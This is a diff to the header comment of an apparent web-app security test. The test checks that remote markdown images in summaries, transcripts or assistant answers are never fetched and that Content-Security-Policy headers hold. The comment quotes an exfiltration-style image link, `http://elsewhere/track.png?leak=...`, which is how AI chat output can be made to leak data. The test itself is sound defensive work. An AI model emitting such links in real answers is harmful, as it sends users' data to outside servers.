@@ -1,9 +1,9 @@
 /**
- * Remote images and security headers (issue 10 point 8). `![x](http://elsewhere/track.png?leak=...)`
- * in a summary, a transcript turn or an assistant answer must never be fetched: a loopback HTTP
- * server of this test plays "elsewhere" (another origin than the app's) and counts every hit. The
- * image shows as a link; the app itself runs without a single Content-Security-Policy violation;
- * the headers are on the web app and the API. Screenshots of the summary go to RECORDER_SHOTS.
+ * Remote images and security headers. `![x](http://elsewhere/track.png?leak=...)` in a summary, a
+ * transcript turn or an assistant answer must never be fetched: a loopback HTTP server of this test
+ * plays "elsewhere" (another origin than the app's) and counts every hit. The image shows as a
+ * link; the app itself runs without a single Content-Security-Policy violation; the headers are on
+ * the web app and the API. Screenshots of the summary go to RECORDER_SHOTS.
  */
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
